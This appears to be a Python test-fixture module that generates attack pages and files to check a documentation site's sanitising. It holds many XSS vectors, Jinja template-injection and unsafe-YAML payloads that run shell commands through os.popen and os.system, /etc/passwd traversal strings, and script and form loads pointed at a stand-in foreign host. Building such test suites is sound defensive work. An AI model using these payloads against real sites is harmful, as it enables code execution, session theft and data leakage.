"""What a stranger might send: attacks by family, each in several places of a strategy.

``J`` calls a function that the tests' browser has; ``F`` is a host that nobody may be asked for.
"""

from __future__ import annotations

import html
import json
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from itertools import count, cycle, islice

J = "hit()"
F = "fremd.example"
PYTHON = "__import__('pathlib').Path('GELAUFEN').touch()"
"""Creates a file where it is run; tests look for it."""


@dataclass(frozen=True)
class Payload:
    """One attack: its family, the file that it stands in, and what the file holds."""

    name: str
    family: str
    file: str
    content: bytes


SCRIPTS = (
    f"<script>{J}</script>",
    f"<ScRiPt>{J}</sCrIpT>",
    f"<script/x>{J}</script>",
    f"<script\n>{J}</script>",
    f"<script\f>{J}</script>",
    f"<script src=//{F}/x.js></script>",
    '<script src="../x.txt"></script>',
    "<script src=data:text/javascript,hit()></script>",
    f"<script type=module>{J}</script>",
    f"<scr<script>ipt>{J}</script>",
    f"<<script>{J}//<</script>",
    f"<script>{J}</script x>",
    f"<svg><script>{J}</script></svg>",
    f"<svg><script href=data:text/javascript,{J} />",
    f"<svg><script>{J.replace('(', '&#40;')}</script>",
    f"<math><mi><script>{J}</script></mi></math>",
    f"<template><script>{J}</script></template>",
    f"<template shadowrootmode=open><script>{J}</script></template>",
    f"<!--><script>{J}</script>-->",
    f"<!--!><script>{J}</script>",
    f"<!---><script>{J}</script>-->",
    f"<!-- --!><script>{J}</script> -->",
    f"<![CDATA[<script>{J}</script>]]>",
    f"<![CDATA[><script>{J}</script>]]>",
    f"<?xml ><script>{J}</script>?>",
    f"<!x><script>{J}</script>",
    f"</p><script>{J}</script>",
    f"</article></main><script>{J}</script>",
    f"<title></title><script>{J}</script>",
    f"<textarea></textarea><script>{J}</script>",
    f"<xmp></xmp><script>{J}</script>",
    f"<select><script>{J}</script></select>",
    f"<table><script>{J}</script></table>",
    f"<frameset><script>{J}</script>",
    f"<script><!--<script>{J}</script>",
)
HANDLERS = (
    f"<img src=x onerror={J}>",
    f"<img/src=x/onerror={J}>",
    f"<img src=x onerror={J}//",
    f"<img src=x\nonerror={J}>",
    f"<img src=x\tonerror\t=\t{J}>",
    f"<img src=x\fonerror={J}>",
    f"<IMG SRC=x ONERROR={J}>",
    f"<image src=x onerror={J}>",
    f'<img """><img src=x onerror={J}>"">',
    f"<img src=x alt=` onerror={J}>`",
    f"<img alt='\"' src=x onerror={J} title='\"'>",
    f"<img src=x onerror={html.escape(J).replace('hit', '&#104;it')}>",
    f"<svg onload={J}>",
    f"<svg/onload={J}>",
    f"<svg><animate onbegin={J} attributeName=x dur=1s></svg>",
    f"<svg><g onload={J}></g></svg>",
    f"<body onload={J}>",
    f"<body onpageshow={J}>",
    f"<html onpointerenter={J}>",
    f"<details open ontoggle={J}><summary>x</summary></details>",
    f"<input autofocus onfocus={J}>",
    f"<select autofocus onfocus={J}></select>",
    f"<video><source onerror={J} src=x></video>",
    f"<video src=x onerror={J}></video>",
    f"<audio src=x onerror={J}></audio>",
    f"<object data=x onerror={J}></object>",
    f"<embed src=x onload={J}>",
    f"<iframe onload={J}></iframe>",
    f"<style onload={J}></style>",
    f"<link rel=stylesheet href=x onerror={J}>",
    f"<marquee onstart={J}>x</marquee>",
    f"<p style='animation:x 1s' onanimationstart={J}>x</p>",
    f"<a href=x onclick={J}>x</a>",
    f'<a href="x"onclick="{J}">x</a>',
    f"<a autofocus tabindex=0 onfocus={J}>x</a>",
    f"<div onmouseover={J}>x</div>",
    f"<x onfocusin={J} tabindex=1>x</x>",
    f"<math><mtext onclick={J}>x</mtext></math>",
    f"<button popovertarget=x onbeforetoggle={J}>x</button>",
)
MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={J}>"></noscript>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    f'onerror={J}&gt;"></table>',
    f'<svg></p><style><a id="</style><img src=1 onerror={J}>"></svg>',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={J}></style>",
    f'<select><template><style><!--</style><a rel="--></style></template></select>'
    f'<img src=x onerror={J}>"></a>',
    f'<b title="<!--"><img src=x onerror={J}><!-- -->',
    f'<a title="`</a><img src=x onerror={J}>`">x</a>',
    f'<p title="&lt;img src=x onerror={J}&gt;">x</p>',
    f"<svg><foreignObject><img src=x onerror={J}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={J}></desc></svg>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={J}></annotation-xml></math>",
    f"<table><tr><td><img src=x onerror={J}></table>",
    f'<abbr title="</abbr><img src=x onerror={J}>">x</abbr>',
    f"&lt;img src=x onerror={J}&gt;",
    f"\\<img src=x onerror={J}>",
    f"\u003cimg src=x onerror={J}\u003e".replace("<", "\uff1c"),
)
FRAMES = (
    f"<iframe src=//{F}/></iframe>",
    f'<iframe srcdoc="<script>{J}</script>"></iframe>',
    f"<iframe src='javascript:{J}'></iframe>",
    f"<object data=//{F}/x></object>",
    f"<embed src=//{F}/x>",
    f"<object data='data:text/html,<script>{J}</script>'></object>",
    f"<frameset><frame src=//{F}/></frameset>",
    f"<portal src=//{F}/></portal>",
    f"<fencedframe src=//{F}/></fencedframe>",
    f"<base href=//{F}/>",
    f"<meta http-equiv=refresh content='0;url=//{F}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{J}'>",
    f"<form action=//{F}/><input name=q><button>x</button></form>",
    f"<form action='javascript:{J}'><button autofocus>x</button></form>",
    f"<button formaction='javascript:{J}'>x</button>",
    f"<input type=submit formaction=//{F}/>",
    f"<dialog open><form action=//{F}/></form></dialog>",
    f"<applet code=//{F}/x></applet>",
)
FOREIGN = (
    f"<img src=//{F}/x.png>",
    f"<img src=https:/\\{F}/x.png>",
    f"<img src=\\\\{F}\\x.png>",
    f"<img src='/\t/{F}/x.png'>",
    f"<img src='ht\ntps://{F}/x.png'>",
    f"<img src='https:{F}/x.png'>",
    f"<img src='&#47;&#47;{F}/x.png'>",
    f"<img srcset='//{F}/x.png 1x'>",
    f"<img src=x srcset='x.png 1x,//{F}/x.png 2x'>",
    f"<img src=x srcset=',//{F}/x.png'>",
    f"<img src=x srcset='a,//{F}/x.png'>",
    f"<img src=x srcset='a 1x,,//{F}/x.png 2x'>",
    f"<img src=x lowsrc=//{F}/x.png>",
    f"<picture><source srcset=//{F}/x.png><img src=x></picture>",
    f"<picture><source media=all srcset='x.png, //{F}/x.png 2x'><img src=x></picture>",
    f"<video src=//{F}/x.mp4></video>",
    f"<video poster=//{F}/x.png></video>",
    f"<audio src=//{F}/x.mp3></audio>",
    f"<video><track default src=//{F}/x.vtt></video>",
    f"<input type=image src=//{F}/x.png>",
    f"<body background=//{F}/x.png>",
    f"<table background=//{F}/x.png><tr><td>x</table>",
    f"<style>@import '//{F}/x.css';</style>",
    f"<style>body{{background:url(//{F}/x.png)}}</style>",
    f"<p style='background:url(//{F}/x.png)'>x</p>",
    f"<p style='text-align:left;b\\61ckground:u\\72l(//{F}/x)'>x</p>",
    f"<p style='text-align:url(//{F}/x)'>x</p>",
    f"<link rel=stylesheet href=//{F}/x.css>",
    f"<link rel=preload as=image href=//{F}/x.png>",
    f"<link rel=prefetch href=//{F}/>",
    f"<link rel=icon href=//{F}/x.ico>",
    f"<svg><image href=//{F}/x.png /></svg>",
    f"<svg><use href=//{F}/x.svg#a /></svg>",
    f"<svg><feImage href=//{F}/x.png /></svg>",
    f"<a ping=//{F}/ href=x>x</a>",
    f"<a href=x attributionsrc=//{F}/>x</a>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["//{F}/"]}}]}}</script>',
)
ADDRESSES = (
    "javascript:J",
    "JaVaScRiPt:J",
    "java\tscript:J",
    "java&#x0A;script:J",
    "&#106;avascript:J",
    "&#0000106avascript:J",
    "java&Tab;script:J",
    "java&NewLine;script:J",
    "javascript&colon;J",
    "javascript&#58;J",
    "&#1;javascript:J",
    "\x01javascript:J",
    "%6aavascript:J",
    "javascript:%0ahit()",
    "javascript://x%0ahit()",
    "vbscript:J",
    "data:text/html,<script>J</script>",
    "data:text/html;base64,PHNjcmlwdD4",
    "blob:J",
    "filesystem:J",
    "feed:javascript:J",
    "view-source:javascript:J",
    "jar:javascript:J!",
    "intent://x#Intent;end",
    "file:///etc/passwd",
    "ms-word:ofe|u|https://fremd.example/x",
)
LINKS: tuple[Callable[[str], str], ...] = (
    lambda a: f"[x]({a})",
    lambda a: f"[x](<{a}>)",
    lambda a: f"[x][r]\n\n[r]: {a}",
    lambda a: f"<{a}>",
    lambda a: f'<a href="{a}">x</a>',
    lambda a: f"<a href='  {a}'>x</a>",
    lambda a: f'[x](index.md){{: href="{a}" }}',
    lambda a: f"![x]({a})",
    lambda a: f'<svg><a xlink:href="{a}"><text y="9">x</text></a></svg>',
    lambda a: f'<blockquote cite="{a}">x</blockquote>',
)
ATTRIBUTE_LISTS = (
    f'[x](index.md){{: onclick="{J}" }}',
    f"[x](index.md){{: onmouseover={J} }}",
    f'## Titel {{: onclick="{J}" }}',
    f"Text\n{{: onclick={J} }}",
    f'Text\n{{: style="background:url(//{F}/x)" }}',
    f'![x](x.png){{: src="//{F}/x.png" }}',
    f'![x](x.png){{: srcset="//{F}/x.png 1x" }}',
    f"![x](x.png){{: onerror={J} }}",
    "## Titel {: name=body }",
    "## Titel {#klarplan-mistake}",
    "## Titel {#__search}",
    "Text\n{: .md-header }",
    "Text\n{: data-md-component=search }",
    f'``` {{ .html onclick="{J}" }}\nx\n```',
    f'!!! note inline "<img src=x onerror={J}>"\n    Text',
    f'??? note "<svg onload={J}>"\n    Text',
)
CODE = "{{ lipsum.__globals__['os'].popen('touch GELAUFEN').read() }}"
TEMPLATES = (
    CODE,
    f"{{% if (1,) == [1] %}}ok{{% else %}}{CODE}{{% endif %}}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{ c }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ config }}",
    "{{ env }}",
    "{{ fix_url('x') }}",
    "{{ context() }}",
    "{{ macros_info() }}",
    "{{ now() }}",
    "{{ pretty([1]) }}",
    "{{ relative_url('x') }}",
    "{{ cycler('a').__init__.__globals__ }}",
    "{{ self.__init__ }}",
    "{{ range(9) }}",
    "{{ measures_table(x=1) }}",
    "{{ status_badge(lipsum) }}",
    '{{ status_badge("A-1" ~ "x") }}',
    '{{ status_badge("A-1").__class__ }}',
    '{{ status_badge("A-1") | safe }}',
    '{{ status_badge(*["A-1"]) }}',
    '{{ status_badge(**{"id": "A-1"}) }}',
    '{{ status_badge(("A-1",)) }}',
    "{{ status_badge(f'{1}') }}",
    "{{ status_badge(b'A-1') }}",
    '{{ status_badge("<script>hit()</script>") }}',
    '{{- status_badge("A-1") -}}',
    f'{{{{ status_badge("A-1") }}}}{CODE}',
    f"{{%- raw -%}}{CODE}{{%- endraw -%}}",
    "{% include 'index.md' %}",
    "{% import 'os' as x %}",
    "{% set x = 1 %}",
    "{% extends 'main.html' %}",
    "{# x #}",
    f"{{%raw%}}](a{{%endraw%}}{CODE}",
    f"](a{{%raw%}}/../b {CODE} ](a{{%endraw%}}/../b",
    f"](`/../y {CODE} `",
    f"```\n{CODE}\n~~~\n{CODE}\n```\n{CODE}",
    f"    {CODE}",
    f"`` ` ``{CODE}` `",
    f"\\`{CODE}\\`",
    f"<!-- {CODE} -->",
    f'<p title="{CODE}">x</p>',
    f"[x]({CODE})",
    f"[x](index.md#{CODE})",
    f"k00000000000000000000000000000000({CODE[2:-2]})k00000000000000000000000000000000",
    "<!--klarplan--><script>hit()</script><!--/klarplan-->",
    "[x](java{{ feedback_outcomes() }}script:hit())",
    "<{{ feedback_outcomes() }}script>hit()</script>",
    "`{{ feedback_outcomes() }}`<script>hit()</script>",
    "```{{ feedback_outcomes() }}\n<script>hit()</script>\n```",
    '<p class="{{ status_badge("A-1") }}">x</p>',
    '<!-- {{ status_badge("A-1") }} -->',
    '[x]({{ status_badge("A-1") }})',
)
YAML = (
    f"title: !!python/object/apply:eval ['{PYTHON}']",
    "title: !!python/object/apply:os.system ['touch GELAUFEN']",
    "title: &a [x, *a]",
    "title: !!binary x",
    f'title: "<script>{J}</script>"',
    f'title: "</title><img src=x onerror={J}>"',
    f'title: "\\"><img src=x onerror={J}>"',
    f"title: '{CODE}'".replace("['os']", ".os"),
    f'description: "\\"><script>{J}</script>"',
    f'source: "\\"><script>{J}</script>"',
    "template: ../../x.html",
    "template: 404.html",
    "render_macros: true",
    f'kind: "\\"><script>{J}</script>"',
    f'crumbs: [{{title: "<script>{J}</script>", url: "javascript:{J}"}}]',
    f'facets: {{status: "<img src=x onerror={J}>"}}',
    "hide: [navigation]",
    "search: {exclude: true}",
)
CARRIERS: Mapping[str, Callable[[str], str]] = {
    "block": lambda v: v,
    "inline": lambda v: f"Text {v} Text.",
    "table": lambda v: f"| A | B |\n|---|---|\n| {v.replace('|', '')} | x |",
    "link": lambda v: f"[{v}](index.md)",
    "heading": lambda v: f"## {v}",
    "gap": lambda v: f"](`/../y {v} `",
    "container": lambda v: f'<div markdown="1">\n\n{v}\n\n</div>',
    "quote": lambda v: f"> - {v}",
    "admonition": lambda v: f'!!! note "{v}"\n    Text',
    "tab": lambda v: f'=== "{v}"\n\n    Text',
    "footnote": lambda v: f"Text[^1].\n\n[^1]: {v}",
    "definition": lambda v: f"Wort\n:   {v}",
    "fence": lambda v: f"```html\n{v}\n```",
    "info": lambda v: f"``` {{ .x title='{v}' }}\nx\n```",
    "title": lambda v: f"---\ntitle: {json.dumps(v)}\n---\n\nText",
    "abbreviation": lambda v: f"Ein KP.\n\n*[KP]: {v}",
    "alternative": lambda v: f"![{v}](x.png)",
    "tooltip": lambda v: f'[x](index.md "{v}")',
    "details": lambda v: f'??? note "x"\n    {v}',
    "unclosed": lambda v: f"<details><summary>x</summary>\n\n{v}",
}
SVG_HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:s="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" '
    'viewBox="0 0 9 9" width="9" height="9"{0}>{1}</svg>'
)
SVGS = (
    ("", f"<script>{J}</script>"),
    ("", f"<s:script>{J}</s:script>"),
    ("", f"<h:script>{J}</h:script>"),
    ("", f"<script href='data:text/javascript,{J}'/>"),
    ("", f"<script xlink:href='//{F}/x.js'/>"),
    ("", f"<h:iframe src='//{F}/'/>"),
    ("", f"<foreignObject><h:img src='x' onerror='{J}'/></foreignObject>"),
    (f' onload="{J}"', ""),
    (f'            onload="{J}"', ""),
    (f'\nonload\n=\n"{J}"', ""),
    ("", f"<rect onclick='{J}' width='9' height='9'/>"),
    ("", f"<animate onbegin='{J}' attributeName='x' dur='1s'/>"),
    ("", f"<set attributeName='onload' to='{J}'/>"),
    ("", f"<a href='x'><animate attributeName='href' values='javascript:{J}'/><text>x</text></a>"),
    ("", f"<a xlink:href='javascript:{J}'><text y='9'>x</text></a>"),
    ("", f"<a href='java&#10;script:{J}'><text y='9'>x</text></a>"),
    ("", f"<image href='//{F}/x.png' width='9' height='9'/>"),
    ("", f"<image xlink:href='https:/\\{F}/x.png' width='9' height='9'/>"),
    ("", f"<use href='//{F}/x.svg#a'/>"),
    ("", "<use href='data:image/svg+xml,x#a'/>"),
    ("", f"<feImage href='//{F}/x.png'/>"),
    ("", f"<style>@import '//{F}/x.css';</style>"),
    ("", f"<style>rect{{fill:url(//{F}/x#a)}}</style><rect width='9' height='9'/>"),
    ("", f"<style>rect{{fill:u\\72l(//{F}/x#a)}}</style><rect width='9' height='9'/>"),
    ("", f"<rect style='mask:image-set(\"//{F}/x.png\" 1x)' width='9' height='9'/>"),
    ("", f"<rect fill='url(//{F}/x#a)' width='9' height='9'/>"),
    ("", f"<rect filter='url(https:/\\{F}/x#a)' width='9' height='9'/>"),
    ("", f"<handler xmlns='http://www.w3.org/2001/xml-events'>{J}</handler>"),
    ("", f"<g><![CDATA[</g><script>{J}</script>]]></g>"),
    ("", f"<text>&lt;script&gt;{J}&lt;/script&gt;</text>"),
    ("", "<metadata><rdf xmlns='x'/></metadata>"),
    ("", f"<switch><h:body onload='{J}'/></switch>"),
)
SVG_FILES = (
    f'<!DOCTYPE svg [<!ENTITY x "{J}">]><svg xmlns="http://www.w3.org/2000/svg" onload="&x;"/>',
    f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{J}">]><svg xmlns="http://www.w3.org/2000/svg"/>',
    f'<!DOCTYPE svg SYSTEM "//{F}/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
    f'<?xml-stylesheet href="//{F}/x.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{J}</script></html>",
    f"GIF89a<svg xmlns='http://www.w3.org/2000/svg' onload='{J}'/>",
    '<svg xmlns="http://www.w3.org/2000/svg"><g>',
    "",
)
ENDINGS = tuple(
    """
    html htm xhtml shtml xht mht mhtml svgz xml xsl xslt js mjs cjs wasm css json map php
    php5 phtml phar asp aspx jsp cgi pl py pyc rb sh bash ps1 bat cmd exe dll so jar war
    class swf hta lnk url scr msi apk dmg iso docm xlsm pptm dotm xltm xlam zip tar gz 7z
    rar sql sqlite db env htaccess htpasswd conf ini cfg log bak swp md~ markdown mkd
    mdown mkdn mdwn yml yaml toml j2 jinja xpdl eml vcf ics webmanifest
    """.split()  # noqa: SIM905 - a list of many words
)
FILE_NAMES = (
    "_redirects",
    "_headers",
    "web.config",
    ".htaccess",
    ".user.ini",
    "CNAME",
    "robots.txt",
    "sw.js",
    "index.php.txt",
    "x.html.",
    "x.HTML",
    "x.svg.html",
    ".well-known/security.txt",
    "crossdomain.xml",
    "mkdocs.yml",
    "x\u202etxt.md",
    "x y.md",
    "x;y.md",
    "x'y.md",
    'x"><script>hit()<script>.md',
    'x"><img src=x onerror=hit()>.md',
    "{{ lipsum }}.md",
    "{% raw %}.md",
    "x`y`.md",
    "x](y.md",
    "x#y.md",
    "x?y.md",
    "x%2e%2e.md",
    "javascript:x.md",
    "-x.md",
    "x\ny.md",
    "con.md",
)
SETTINGS = (
    *('title', 'subtitle', 'summary', 'municipality', 'version', 'resolution', 'site_url'),
    *('repository', 'branch', 'licence', 'logo', 'font', 'primary_colour', 'contact_name'),
    *('contact_email', 'contact_phone', 'street', 'place', 'sign_language_url'),
    'participation_url',
)  # fmt: skip
SETTING_VALUES = (
    f'"><script>{J}</script>',
    f"'><img src=x onerror={J}>",
    f'https://x.example/"><script>{J}</script>',
    f"https://x.example/' onmouseover='{J}",
    f"javascript:{J}",
    f"//{F}/x",
    "x@y.example\nExpires: 1970-01-01T00:00:00Z",
    f"</title></style><script>{J}</script>",
    f"{CODE}",
    f'assets/wappen.svg" onload="{J}',
    f"red;}} body{{background:url(//{F}/x)}}",
    "../../../etc/passwd",
)
CELLS = (
    f"<script>{J}</script>",
    f"<img src=x onerror={J}>",
    f'"><svg onload={J}>',
    f"' onmouseover='{J}",
    f"[x](javascript:{J})",
    f"javascript:{J}",
    f"![x](//{F}/x.png)",
    CODE,
    "{% raw %}",
    f"</script><script>{J}</script>",
    f"`</code><img src=x onerror={J}>`",
    f"&lt;img src=x onerror={J}&gt;",
    f"]]><script>{J}</script>",
    f"--><script>{J}</script>",
    f"x\n\n<script>{J}</script>",
    "{: onclick=hit() }",
)
TEXT_COLUMNS: Mapping[str, tuple[str, ...]] = {
    "measures": ("title", "summary", "impact"),
    "goals": ("title", "summary"),
    "fields_of_action": ("title", "summary", "icon"),
    "indicators": ("title", "definition", "unit", "source", "method"),
    "organisations": ("name", "url", "functional_email"),
    "bodies": ("name", "task", "cycle", "chair_role"),
    "decisions": ("title", "summary", "reference", "url"),
    "documents": ("title", "url", "kind"),
    "milestones": ("title",),
    "statuses": ("label", "meaning", "symbol", "colour"),
}
KNOWN: Mapping[str, tuple[str, str]] = {
    "if-else": (".md", TEMPLATES[1]),
    "raw-in-links": (".md", TEMPLATES[35]),
    "script-in-gap": (".md", f"](`/../y <script>{J}</script> `"),
    "empty-macro-in-link": (".md", f"[x](java{{{{ feedback_outcomes() }}}}script:{J})"),
    "empty-macro-in-fence": (".md", TEMPLATES[-4]),
    "script-of-text-file": (".md", '<script src="../x.txt"></script>'),
    "markdown-ending": (".markdown", CODE),
    "mkd-ending": (".mkd", CODE),
    "mdown-ending": (".mdown", f"<script>{J}</script>"),
}
"""The cases of the attack that led to these rules, by name: the file's ending, and its text."""


def known() -> Iterator[Payload]:
    """The known cases, each a family of its own, in both folders of texts."""
    for name, (ending, text) in KNOWN.items():
        for folder in ("docs", "strategy"):
            content = f"# Probe\n\n{text}\n".encode()
            yield Payload(
                f"{folder}-{name}", f"{folder} {name}", f"{folder}/{name}{ending}", content
            )


def texts() -> Iterator[tuple[str, str]]:
    """Family and text of every page."""
    for family, vectors, times in (
        ("script", SCRIPTS, 3),
        ("handler", HANDLERS, 3),
        ("mutation", MUTATIONS, 4),
        ("frame", FRAMES, 3),
        ("foreign", FOREIGN, 2),
    ):
        names = cycle(CARRIERS)
        for vector in vectors:
            for name in ("block", *islice(names, times - 1)):
                yield family, CARRIERS[name](vector)
    makers = cycle(LINKS)
    for address in ADDRESSES:
        for make in islice(makers, 3):
            yield "address", make(address.replace(":J", f":{J}").replace(">J<", f">{J}<"))
    for text in ATTRIBUTE_LISTS:
        yield "attributes", text
    for text in TEMPLATES:
        yield "template", text
    for text in YAML:
        yield "front matter", f"---\n{text}\n---\n\nText"


def pages() -> Iterator[Payload]:
    """All pages that people might write."""
    yield from (payload for payload in known() if payload.file.endswith(".md"))
    for number, (family, text) in zip(count(1), texts(), strict=False):
        name = f"p{number:03}"
        body = text if text.startswith("---\n") else f"# Probe {number}\n\n{text}\n"
        yield Payload(name, family, f"docs/{name}.md", body.encode())


def files() -> Iterator[Payload]:
    """Pictures and other files beside the pages."""
    yield from (payload for payload in known() if not payload.file.endswith(".md"))
    script = f"<script>{J}</script>{CODE}".encode()
    drawings = [SVG_HEAD.format(*parts).encode() for parts in SVGS]
    drawings += [text.encode() for text in SVG_FILES]
    drawings += [
        drawings[0].decode().encode("utf-16"),
        b"<?xml version='1.0' encoding='iso-2022-jp'?>" + drawings[0],
        b"<?xml version='1.0' encoding='utf-7'?>" + drawings[0],
        b"\x00" + drawings[0],
    ]
    for number, drawing in enumerate(drawings, start=1):
        yield Payload(f"s{number:02}", "drawing", f"docs/s{number:02}.svg", drawing)
    for ending in ENDINGS:
        yield Payload(f"x.{ending}", "ending", f"docs/x.{ending}", script)
    for name in FILE_NAMES:
        yield Payload(name, "name", f"docs/{name}", script if ".md" not in name else b"# x\n")
    for ending in ("png", "jpg", "pdf", "txt", "csv", "docx", "xlsx", "woff2", "mp4"):
        yield Payload(f"y.{ending}", "content", f"docs/y.{ending}", script)


def first_of_each(payloads: Iterable[Payload]) -> list[Payload]:
    """The first of each family."""
    firsts: dict[str, Payload] = {}
    for payload in payloads:
        firsts.setdefault(payload.family, payload)
    return list(firsts.values())
